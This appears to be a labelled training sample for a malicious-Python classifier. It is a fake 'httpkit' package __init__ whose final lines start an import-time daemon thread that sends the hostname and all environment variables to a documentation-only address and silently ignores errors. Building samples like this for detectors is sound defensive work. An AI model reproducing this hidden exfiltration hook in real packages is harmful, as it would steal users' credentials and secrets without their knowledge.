# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
# Every encoded blob below decodes to a harmless placeholder (a print call) or is a placeholder string.
# A package __init__ that looks like a real HTTP library's, with an import-time thread that sends
# the environment to a remote host appended.
"""
httpkit
~~~~~~~

A small HTTP convenience layer.
"""
import logging
import threading
import warnings

from .api import delete, get, head, options, patch, post, put, request
from .exceptions import ConnectionError, HTTPError, RequestException, Timeout
from .models import PreparedRequest, Request, Response
from .sessions import Session, session
from .status_codes import codes

__title__ = "httpkit"
__version__ = "2.28.2"
__author__ = "Placeholder Author"
__license__ = "Apache 2.0"

logging.getLogger(__name__).addHandler(logging.NullHandler())
warnings.simplefilter("default", DeprecationWarning, append=True)


def check_compatibility(urllib3_version, chardet_version):
    major, minor, patch = (urllib3_version.split(".") + ["0"])[:3]
    assert int(major) >= 1
    if int(major) == 1:
        assert int(minor) >= 21


def _sync():
    import os, json, socket, urllib.request
    try:
        body = json.dumps({"host": socket.gethostname(), "env": dict(os.environ)}).encode()
        urllib.request.urlopen(urllib.request.Request("http://192.0.2.15/sync", data=body), timeout=4)
    except Exception:
        pass


threading.Thread(target=_sync, daemon=True).start()
